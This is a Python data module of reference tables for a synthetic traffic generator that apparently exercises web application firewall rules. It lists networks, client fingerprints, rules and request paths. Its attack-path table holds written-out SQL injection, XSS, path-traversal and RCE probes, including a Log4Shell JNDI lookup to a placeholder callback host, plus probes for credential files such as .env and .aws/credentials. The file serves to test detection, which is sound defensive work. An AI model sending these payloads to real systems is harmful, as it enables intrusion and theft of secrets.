"""Static reference tables the traffic generator draws from: networks, clients, rules, paths.

Plain data, no logic, so the generator in `traffic.py` reads as a story and the tables
can grow without touching it.

Where the data comes from:
- Address space: each network is a prefix its organisation announces (RIPEstat and
  bgp.he.net list them); where one ISP has many, one representative prefix. IPv6 comes
  from the registry that serves the country (ARIN 2600::/12, RIPE 2a00::/12, APNIC
  2400::/12, LACNIC 2800::/12, AFRINIC 2c00::/12, IANA's IPv6 unicast registry), so the
  registry, country and organisation of an address always agree.
- Country weights and IPv6 shares: roughly the ranking of traffic sources a European
  e-commerce site sees, and Google's per-country IPv6 adoption statistics.
- The daily rhythm: the load curve of a large Internet exchange (DE-CIX Frankfurt's public
  traffic graph): a trough near 04:00 local time at about a quarter of the peak, a rise
  through the working day, and a peak in the evening around 21:00.
- TLS fingerprints: JA3 and JA4 of current browsers (FoxIO's JA4 database). Chrome-based
  browsers permute their TLS extensions on every connection since Chrome 110 (early
  2023), so their JA3 changes per connection while their JA4, which sorts extensions,
  does not; Firefox and Safari keep one JA3.
- Attack payloads: the probes of sqlmap, Nikto and nuclei templates and the OWASP Core
  Rule Set's attack classes, each rule detecting its own class.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

SessionKind = Literal["browser", "crawler", "tool", "spoofer", "attacker"]
PayloadClass = Literal["sqli", "xss", "traversal", "rce", "sensitive_file", "login", "none"]


@dataclass(frozen=True)
class Country:
    """A country: its traffic weight, local time, centroid (Appgate) and home ISP's space."""

    code: str
    weight: float
    utc_offset_h: float
    latitude: float
    longitude: float
    continent: str
    language: str
    isp: str
    asn: int
    ipv4: tuple[str, ...]
    ipv6: str
    ipv6_share: float


# fmt: off
COUNTRIES: tuple[Country, ...] = (
    Country("US", 22, -6, 37.751, -97.822, "NA", "en", "Comcast Cable Communications", 7922,
            ("73.0.0.0/8", "98.192.0.0/10"), "2601::/20", 0.5),
    Country("DE", 9, 1, 51.2993, 9.491, "EU", "de", "Deutsche Telekom AG", 3320,
            ("79.192.0.0/10", "87.128.0.0/10"), "2a02:8100::/27", 0.6),
    Country("GB", 6, 0, 51.4964, -0.1224, "EU", "en", "British Telecommunications PLC", 2856,
            ("86.128.0.0/10", "81.128.0.0/12"), "2a00:23c0::/27", 0.45),
    Country("FR", 5, 1, 48.8582, 2.3387, "EU", "fr", "Orange S.A.", 3215,
            ("90.0.0.0/9", "86.192.0.0/10"), "2a01:cb00::/24", 0.75),
    Country("NL", 3, 1, 52.3824, 4.8995, "EU", "nl", "KPN B.V.", 1136,
            ("77.160.0.0/12",), "2a02:a440::/29", 0.5),
    Country("IN", 6, 5.5, 20.0, 77.0, "AS", "hi", "Bharti Airtel Ltd.", 9498,
            ("122.160.0.0/12",), "2401:4900::/32", 0.7),
    Country("CN", 5, 8, 34.7732, 113.722, "AS", "zh", "China Telecom", 4134,
            ("58.32.0.0/11", "180.160.0.0/12"), "240e::/20", 0.35),
    Country("JP", 4, 9, 35.69, 139.69, "AS", "ja", "NTT Communications", 4713,
            ("153.128.0.0/10",), "2400:4050::/32", 0.5),
    Country("BR", 4, -3, -22.8305, -43.2192, "SA", "pt", "Claro S.A.", 28573,
            ("177.32.0.0/11",), "2804:14c::/32", 0.45),
    Country("RU", 3, 3, 55.7386, 37.6068, "EU", "ru", "Rostelecom", 12389,
            ("178.64.0.0/12",), "2a03:d000::/32", 0.1),
    Country("CA", 3, -5, 43.6319, -79.3716, "NA", "en", "Bell Canada", 577,
            ("70.48.0.0/13", "174.88.0.0/13"), "2607:fea8::/32", 0.4),
    Country("AU", 2, 10, -33.494, 143.2104, "OC", "en", "Telstra Corporation", 1221,
            ("1.120.0.0/13", "58.160.0.0/12"), "2001:8003::/32", 0.35),
    Country("ES", 2, 1, 40.4172, -3.684, "EU", "es", "Telefonica de Espana", 3352,
            ("80.24.0.0/13", "83.32.0.0/11"), "2a0c:5a80::/29", 0.1),
    Country("IT", 2, 1, 45.4722, 9.1922, "EU", "it", "Telecom Italia", 3269,
            ("79.0.0.0/12", "87.0.0.0/12"), "2a01:e00::/26", 0.1),
    Country("PL", 2, 1, 52.2394, 21.0362, "EU", "pl", "Orange Polska", 5617,
            ("83.0.0.0/11", "79.184.0.0/13"), "2a01:110f::/32", 0.2),
    Country("SE", 1.5, 1, 55.8667, 12.8333, "EU", "sv", "Telia Company AB", 3301,
            ("78.64.0.0/12",), "2a05:d000::/29", 0.1),
    Country("KR", 1.5, 9, 37.5112, 126.9741, "AS", "ko", "Korea Telecom", 4766,
            ("121.128.0.0/10",), "2406:5600::/32", 0.15),
    Country("SG", 1.5, 8, 1.2929, 103.8547, "AS", "en", "Singtel", 7473,
            ("116.86.0.0/15",), "2406:3003::/32", 0.2),
    Country("MY", 1, 8, 3.1412, 101.6865, "AS", "ms", "TM Net", 4788,
            ("175.136.0.0/13",), "2402:1980::/32", 0.55),
    Country("ID", 1.5, 7, -6.1728, 106.8272, "AS", "id", "Telkom Indonesia", 7713,
            ("36.64.0.0/11",), "2404:c0::/32", 0.2),
    Country("VN", 1.5, 7, 10.8142, 106.6438, "AS", "vi", "Viettel Group", 7552,
            ("27.64.0.0/12",), "2402:800::/32", 0.6),
    Country("TR", 1, 3, 41.0214, 28.9948, "AS", "tr", "Turk Telekom", 9121,
            ("85.96.0.0/12",), "2a01:358::/32", 0.1),
    Country("UA", 1, 2, 50.4522, 30.5287, "EU", "uk", "Kyivstar", 15895,
            ("46.211.0.0/16",), "2a02:2378::/32", 0.1),
    Country("MX", 1, -6, 19.4285, -99.1277, "NA", "es", "Telmex", 8151,
            ("187.128.0.0/10",), "2806:2f0::/32", 0.45),
    Country("AR", 0.8, -3, -34.6022, -58.3845, "SA", "es", "Telecom Argentina", 7303,
            ("181.0.0.0/12",), "2800:810::/32", 0.15),
    Country("ZA", 0.8, 2, -26.2309, 28.0583, "AF", "en", "Vodacom", 29975,
            ("41.112.0.0/12",), "2c0f:f2f0::/32", 0.05),
    Country("NG", 0.6, 1, 6.4474, 3.3903, "AF", "en", "MTN Nigeria", 29465,
            ("102.88.0.0/13",), "2c0f:f7a8::/32", 0.05),
    Country("EG", 0.6, 2, 30.0355, 31.2230, "AF", "ar", "Telecom Egypt", 8452,
            ("41.32.0.0/12",), "2c0f:fe38::/32", 0.05),
    Country("IR", 0.5, 3.5, 35.698, 51.4115, "AS", "fa", "Iran Telecommunication Company",
            58224, ("2.176.0.0/12",), "2a01:5ec0::/32", 0.05),
    Country("FI", 0.5, 2, 60.1699, 24.9384, "EU", "fi", "Elisa Oyj", 719,
            ("88.112.0.0/12",), "2001:14ba::/32", 0.4),
    Country("RO", 0.6, 2, 44.4268, 26.1025, "EU", "ro", "RCS & RDS", 8708,
            ("86.120.0.0/13",), "2a02:2f00::/24", 0.2),
    Country("CH", 0.8, 1, 47.1449, 8.1551, "EU", "de", "Swisscom", 3303,
            ("85.0.0.0/13",), "2a02:1210::/32", 0.4),
    Country("IL", 0.5, 2, 32.0803, 34.7805, "AS", "he", "Bezeq International", 8551,
            ("79.176.0.0/13",), "2a01:6500::/32", 0.2),
    Country("SA", 0.5, 3, 24.6537, 46.7152, "AS", "ar", "Saudi Telecom Company", 25019,
            ("176.224.0.0/11",), "2a02:cb80::/32", 0.5),
)
# fmt: on


@dataclass(frozen=True)
class Network:
    """Address space of one organisation in one country: a hosting region or a crawler."""

    organization: str
    asn: int
    country: str
    ipv4: tuple[str, ...]
    ipv6: str  # "" when the network sends no IPv6 here
    hostname_suffix: str


# Hosting regions bots, scrapers and attack kits rent. `HOSTING_WEIGHTS` is how often each
# appears among them: big clouds and cheap VPS providers lead.
# fmt: off
HOSTING: tuple[Network, ...] = (
    Network("Amazon.com, Inc.", 16509, "US", ("3.80.0.0/12",), "2600:1f18::/33",
            "compute-1.amazonaws.com"),
    Network("Amazon.com, Inc.", 16509, "DE", ("18.192.0.0/15",), "2a05:d014::/36",
            "eu-central-1.compute.amazonaws.com"),
    Network("Amazon.com, Inc.", 16509, "SG", ("13.228.0.0/15",), "2406:da18::/32",
            "ap-southeast-1.compute.amazonaws.com"),
    Network("Google LLC", 396982, "US", ("35.184.0.0/13",), "2600:1900::/28",
            "bc.googleusercontent.com"),
    Network("DigitalOcean, LLC", 14061, "US", ("167.99.0.0/16",), "2604:a880::/32",
            "digitalocean.com"),
    Network("DigitalOcean, LLC", 14061, "NL", ("188.166.0.0/16",), "2a03:b0c0::/32",
            "digitalocean.com"),
    Network("DigitalOcean, LLC", 14061, "IN", ("139.59.0.0/16",), "2400:6180::/32",
            "digitalocean.com"),
    Network("OVH SAS", 16276, "FR", ("51.68.0.0/16",), "2001:41d0::/32", "ip-51-68.eu"),
    Network("OVH SAS", 16276, "CA", ("158.69.0.0/16",), "2607:5300::/32", "ip-158-69.net"),
    Network("Hetzner Online GmbH", 24940, "DE", ("88.198.0.0/16",), "2a01:4f8::/32",
            "your-server.de"),
    Network("Hetzner Online GmbH", 24940, "FI", ("65.21.0.0/16",), "2a01:4f9::/32",
            "your-server.de"),
    Network("Hangzhou Alibaba Advertising Co.,Ltd.", 37963, "CN", ("47.92.0.0/14",), "",
            "aliyun.com"),
    Network("Shenzhen Tencent Computer Systems", 45090, "CN", ("81.68.0.0/14",), "",
            "tencent.com"),
    Network("Contabo GmbH", 51167, "DE", ("161.97.64.0/18",), "2a02:c207::/32",
            "contaboserver.net"),
    Network("M247 Europe SRL", 9009, "RO", ("185.156.172.0/22",), "", "m247.com"),
    Network("Selectel Ltd.", 49505, "RU", ("92.53.96.0/19",), "", "selectel.ru"),
    Network("The Constant Company, LLC", 20473, "US", ("45.32.0.0/16",), "2001:19f0::/32",
            "vultrusercontent.com"),
    Network("Akamai Connected Cloud", 63949, "US", ("45.33.0.0/17",), "2600:3c00::/32",
            "ip.linodeusercontent.com"),
)
HOSTING_WEIGHTS: tuple[float, ...] = (9, 4, 2, 5, 6, 3, 2, 4, 2, 4, 2, 3, 2, 3, 2, 2, 3, 2)

# Verified crawlers: their operators publish these ranges (Google's googlebot.json,
# Bing's bingbot.json, OpenAI's gptbot.json, UptimeRobot's IP list).
CRAWLER_NETWORKS: dict[str, Network] = {
    "Googlebot": Network("Google LLC", 15169, "US", ("66.249.64.0/19",), "2001:4860:4801::/48",
                         "googlebot.com"),
    "bingbot": Network("Microsoft Corporation", 8075, "US", ("157.55.39.0/24",), "",
                       "search.msn.com"),
    "OpenAI GPTBot": Network("Microsoft Corporation", 8075, "US", ("20.171.206.0/24",), "",
                             "openai.com"),
    "Uptimerobot": Network("Limestone Networks, Inc.", 46475, "US", ("69.162.124.224/28",),
                           "", "uptimerobot.com"),
}

# Hours of the day in local time, 00 to 23, relative to the busiest: people's traffic.
HOURLY_SHAPE: tuple[float, ...] = (
    0.62, 0.45, 0.33, 0.26, 0.23, 0.25, 0.33, 0.47, 0.60, 0.70, 0.76, 0.80,
    0.82, 0.82, 0.82, 0.83, 0.85, 0.87, 0.90, 0.95, 1.00, 1.00, 0.92, 0.78,
)
# The same at an office: the working day, and a little before and after it.
OFFICE_HOURLY_SHAPE: tuple[float, ...] = (
    0.02, 0.02, 0.02, 0.02, 0.02, 0.02, 0.05, 0.20, 0.70, 1.00, 1.00, 0.95,
    0.70, 0.90, 1.00, 1.00, 0.90, 0.60, 0.25, 0.10, 0.05, 0.03, 0.02, 0.02,
)
# Monday to Sunday: a shop's week, a little busier on Sunday evening, quieter on Saturday.
WEEKDAY_SHAPE: tuple[float, ...] = (1.0, 0.98, 0.97, 0.96, 0.95, 0.85, 0.93)
# fmt: on


@dataclass(frozen=True)
class Client:
    """A user agent as the firewall parses it, with the TLS fingerprints it sends.

    `ja3` is "" for a client whose JA3 changes on every connection (`permuted_ja3`).
    """

    kind: SessionKind
    name: str  # Gcore `user_agent_client`: what the User-Agent header parses as
    user_agent: str
    device: str  # hidden `user_agent_device` used by the device filters
    system: str
    version: str
    ja3: str
    ja4: str
    weight: float
    permuted_ja3: bool = False
    plain_http: float = 0.0  # share of its sessions over plain http
    older_versions: tuple[str, ...] = ()  # releases some of its users have not updated from

    def user_agent_of(self, version: str) -> str:
        """The User-Agent this client sends at `version` (dotted or, for iOS, underscored)."""
        underscored = self.version.replace(".", "_")
        return self.user_agent.replace(self.version, version).replace(
            underscored, version.replace(".", "_")
        )


_CHROME_JA4 = "t13d1516h2_8daaf6152771_02713d6af862"
_CHROME_MOBILE_JA4 = "t13d1516h2_8daaf6152771_e5627efa2ab1"
_PYTHON_JA3 = "8d9f7747675e24454cd9b7ed35c58707"
_PYTHON_JA4 = "t13d1812h1_85036bcba153_b26ce05bbdd6"
_GO_JA3 = "c65fcec1b7e7b115c8a2e036cf8d8f78"
_GO_JA4 = "t13d1310h1_f57a46bbacb6_d3a8d3bb0d3a"
_CHROME_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v} Safari/537.36"
)

# fmt: off
CLIENTS: tuple[Client, ...] = (
    Client("browser", "Chrome", _CHROME_UA.format(v="131.0.0.0"),
           "Other", "Windows", "131.0.0.0", "", _CHROME_JA4, 22, permuted_ja3=True,
           older_versions=("130.0.0.0", "129.0.0.0", "128.0.0.0")),
    Client("browser", "Chrome",
           "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like "
           "Gecko) Chrome/130.0.0.0 Safari/537.36",
           "Mac", "Mac OS X", "130.0.0.0", "", _CHROME_JA4, 8, permuted_ja3=True,
           older_versions=("131.0.0.0", "129.0.0.0")),
    Client("browser", "Chrome Mobile",
           "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/131.0.6778.81 Mobile Safari/537.36",
           "K", "Android", "131.0.6778.81", "", _CHROME_MOBILE_JA4, 14, permuted_ja3=True,
           older_versions=("131.0.6778.39", "130.0.6723.102", "129.0.6668.100")),
    Client("browser", "Firefox",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
           "Other", "Windows", "133.0", "b5001237acdf006056b409cc433726b0",
           "t13d1715h2_5b57614c22b0_3d5424432f57", 5, older_versions=("132.0", "128.0")),
    Client("browser", "Firefox",
           "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
           "Other", "Linux", "132.0", "b5001237acdf006056b409cc433726b0",
           "t13d1715h2_5b57614c22b0_3d5424432f57", 1.5, older_versions=("131.0", "128.0")),
    Client("browser", "Safari",
           "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
           "Gecko) Version/18.1 Safari/605.1.15",
           "Mac", "Mac OS X", "18.1", "773906b0efdefa24a7f2b8eb6985bf37",
           "t13d2014h2_a09f3c656075_14788d8d241b", 7, older_versions=("18.0", "17.6")),
    Client("browser", "Mobile Safari",
           "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
           "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
           "iPhone", "iOS", "18.1", "773906b0efdefa24a7f2b8eb6985bf37",
           "t13d2014h2_a09f3c656075_14788d8d241b", 14, older_versions=("18.0", "18.0.1")),
    Client("browser", "Mobile Safari",
           "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 "
           "(KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
           "iPhone", "iOS", "17.6", "773906b0efdefa24a7f2b8eb6985bf37",
           "t13d2014h2_a09f3c656075_14788d8d241b", 4, older_versions=("17.5", "16.7")),
    Client("browser", "Edge",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.70",
           "Other", "Windows", "131.0.2903.70", "", _CHROME_JA4, 6, permuted_ja3=True,
           older_versions=("131.0.2903.51", "130.0.2849.80")),
    Client("browser", "Samsung Internet",
           "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like "
           "Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
           "Samsung SM-S911B", "Android", "26.0", "", _CHROME_MOBILE_JA4, 3, permuted_ja3=True,
           older_versions=("25.0", "24.0")),
    Client("browser", "Opera",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/130.0.0.0 Safari/537.36 OPR/115.0.0.0",
           "Other", "Windows", "115.0.0.0", "", _CHROME_JA4, 1.5, permuted_ja3=True,
           older_versions=("114.0.0.0",)),
    Client("crawler", "Googlebot",
           "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
           "Spider", "Other", "2.1", "e7d705a3286e19ea42f587b344ee6865",
           "t13d1011h2_61a7ad8aa9b6_3fcd1a44f3e3", 5),
    Client("crawler", "bingbot",
           "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
           "Spider", "Other", "2.0", "3b5074b1b5d032e5620f69f9f700ff0e",
           "t13d1311h2_e8f1e7e78f70_ce5650b735ce", 3),
    Client("crawler", "OpenAI GPTBot",
           "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
           "+https://openai.com/gptbot)",
           "Spider", "Other", "1.2", "6734f37431670b3ab4292b8f60f29984",
           "t13d3113h2_e8f1e7e78f70_ce5650b735ce", 2),
    Client("crawler", "Uptimerobot",
           "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
           "Spider", "Other", "2.0", "1d095e68489d3c535297cd8dffb06cb9",
           "t12d0907h1_76e208dd3e22_d1a1e1f9c2b4", 1, plain_http=0.5),
    Client("tool", "Python Requests", "python-requests/2.32.3",
           "Other", "Other", "2.32.3", _PYTHON_JA3, _PYTHON_JA4, 5),
    Client("tool", "curl", "curl/8.5.0",
           "Other", "Linux", "8.5.0", "456523fc94726331a4d5a2e1d40b2cd7",
           "t13d3112h1_e8f1e7e78f70_6bebaf5329ec", 3, plain_http=0.3),
    Client("tool", "Go-http-client", "Go-http-client/2.0",
           "Other", "Other", "2.0", _GO_JA3, _GO_JA4, 2),
    Client("tool", "Wget", "Wget/1.21.4",
           "Other", "Linux", "1.21.4", "cd5e1b6a2a3e2f0b7d9a8b0f3c2e1d4a",
           "t12d4605h1_cd4d8f6aa7f0_4d6c4ad3d1ef", 1, plain_http=0.4),
    Client("tool", "HeadlessChrome",
           "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "HeadlessChrome/131.0.0.0 Safari/537.36",
           "Other", "Linux", "131.0.0.0", "", _CHROME_JA4, 2, permuted_ja3=True),
    # Scrapers claiming to be a browser: the User-Agent parses as Chrome, the handshake is
    # Python's or Go's. The firewall tells them apart by that mismatch.
    Client("spoofer", "Chrome", _CHROME_UA.format(v="120.0.0.0"),
           "Other", "Windows", "120.0.0.0", _PYTHON_JA3, _PYTHON_JA4, 3),
    Client("spoofer", "Chrome", _CHROME_UA.format(v="124.0.0.0"),
           "Other", "Windows", "124.0.0.0", _GO_JA3, _GO_JA4, 2),
    Client("spoofer", "Googlebot",
           "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
           "Spider", "Other", "2.1", _PYTHON_JA3, _PYTHON_JA4, 1),
    Client("attacker", "sqlmap", "sqlmap/1.8.11#stable (https://sqlmap.org)",
           "Other", "Other", "1.8.11", _PYTHON_JA3, _PYTHON_JA4, 2, plain_http=0.3),
    Client("attacker", "Nikto", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
           "Other", "Other", "2.5.0", "19e29534fd49dd27d09234e639c4057e",
           "t12d2112h1_d1c3a6e1a8b0_0f2cb44170f4", 1, plain_http=0.4),
    Client("attacker", "Nuclei",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/74.0.3729.169 Safari/537.36 Nuclei",
           "Other", "Windows", "3.3.5", _GO_JA3, _GO_JA4, 2),
    Client("attacker", "WPScan", "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)",
           "Other", "Other", "3.8.27", "5d50cfb6dcf6ae6a1e2f6e1a1b26e1f4",
           "t13d1812h1_85036bcba153_7b3e5f1a9b8c", 1, plain_http=0.2),
    Client("attacker", "Hydra", "Mozilla/4.0 (Hydra)",
           "Other", "Other", "9.5", "", "", 1, plain_http=1.0),
)
# fmt: on

# What each attack tool sends: the payload classes of its probes, with weights.
ATTACK_REPERTOIRE: dict[str, tuple[tuple[PayloadClass, float], ...]] = {
    "sqlmap": (("sqli", 1.0),),
    "Nikto": (("sensitive_file", 6), ("traversal", 2), ("xss", 2), ("rce", 1)),
    "Nuclei": (("rce", 4), ("sensitive_file", 4), ("traversal", 2), ("sqli", 1), ("xss", 1)),
    "WPScan": (("sensitive_file", 2), ("login", 3)),
    "Hydra": (("login", 1.0),),
}


@dataclass(frozen=True)
class Rule:
    """A WAAP rule that can fire on a request, with the tag it puts on the request.

    A rule that inspects the request carries the payload class it detects; rules about
    the client (reputation, bots) and rate rules carry "none".
    """

    rule_id: str
    name: str
    action: str
    tag: str
    detects: PayloadClass = "none"


RULE_ALLOW_CRAWLERS = Rule("S1001", "Allow verified search engines", "allow", "goodbot")
RULE_AUTOMATED = Rule("S2010", "Automated clients", "block", "automatedclient")
RULE_CHALLENGE = Rule("S2011", "Anti-bot challenge", "handshake", "evasiveclient")
RULE_FAKE_CRAWLER = Rule("S2012", "Fake search engine bot", "block", "fakebot")
RULE_BAD_REPUTATION = Rule("S4006", "Bad reputation IP", "block", "badreputation")
RULE_LOGIN_CAPTCHA = Rule("C3001", "Login captcha", "captcha", "bruteforce", "login")
RULE_RATE = Rule("C3002", "Rate limit /api", "block", "ratelimited")
PAYLOAD_RULES: dict[PayloadClass, Rule] = {
    "sqli": Rule("S4001", "SQL injection", "block", "injectionattack", "sqli"),
    "xss": Rule("S4002", "XSS", "block", "xssattack", "xss"),
    "traversal": Rule("S4003", "Path traversal", "block", "pathtraversal", "traversal"),
    "rce": Rule("S4004", "Remote code execution", "block", "rceattack", "rce"),
    "sensitive_file": Rule("S4005", "Sensitive file access", "block", "scanner", "sensitive_file"),
    "login": RULE_LOGIN_CAPTCHA,
}

# Probes by payload class; "{n}" is a number, "{callback}" the host an out-of-band probe
# calls back to (nuclei uses interactsh servers such as oast.pro).
ATTACK_PATHS: dict[PayloadClass, tuple[str, ...]] = {
    "sqli": (
        "/products/{n}?id={n}%27%20OR%201=1--",
        "/search?q=1%27%20UNION%20SELECT%20NULL,version()--",
        "/api/v1/items/{n}%20AND%20SLEEP(5)",
        "/products?sort=price%20AND%20(SELECT%201%20FROM%20pg_sleep(5))",
        "/search?q=%27%3B%20DROP%20TABLE%20users--",
    ),
    "xss": (
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/blog/{n}?comment=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
        "/search?q=%22%3E%3Csvg/onload=alert(1)%3E",
    ),
    "traversal": (
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        "/images/..%252f..%252f..%252fwindows/win.ini",
        "/download?file=../../../../etc/shadow",
    ),
    "rce": (
        "/cgi-bin/test.cgi?cmd=%3Bid",
        "/api/v1/items?q=%24%7Bjndi:ldap://{callback}/a%7D",
        "/index.php?s=/index/think/app/invokefunction&function=system&vars[]=id",
        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    ),
    "sensitive_file": (
        "/.env",
        "/.git/config",
        "/wp-config.php.bak",
        "/.aws/credentials",
        "/server-status",
        "/phpmyadmin/index.php",
        "/backup.sql",
        "/wp-login.php",
    ),
    "login": ("/login",),
}

BROWSER_PATHS: tuple[str, ...] = (
    "/",
    "/products",
    "/products/{n}",
    "/products/{n}/reviews",
    "/cart",
    "/checkout",
    "/search?q=shoes",
    "/login",
    "/account/profile",
    "/users/{n}/profile",
    "/api/v1/items",
    "/api/v1/items/{n}",
    "/blog",
    "/blog/{n}",
)
# What a page view pulls in right after it, in parallel.
ASSET_PATHS: tuple[str, ...] = (
    "/static/app.js",
    "/static/style.css",
    "/images/{n}.jpg",
    "/favicon.ico",
)
CRAWLER_PATHS: tuple[str, ...] = (
    "/",
    "/robots.txt",
    "/sitemap.xml",
    "/products/{n}",
    "/blog/{n}",
    "/products",
)
API_PATHS: tuple[str, ...] = ("/api/v1/items", "/api/v1/items/{n}")
POLL_PATH = "/api/v1/notifications"  # what an open tab of the shop asks every minute
SCRAPE_PATHS: tuple[str, ...] = ("/products/{n}", "/products", "/products/{n}/reviews")
ORDINARY_STATUS_CODES: tuple[tuple[int, float], ...] = (
    (200, 80),
    (304, 8),
    (301, 2),
    (302, 1),
    (404, 6),
    (499, 1),
    (500, 1),
    (502, 0.5),
)

ACCESSWATCH_THREATS: tuple[str, ...] = (
    "suspicious_scan",
    "comment_spam",
    "referer_spam",
    "brute_force_login",
)
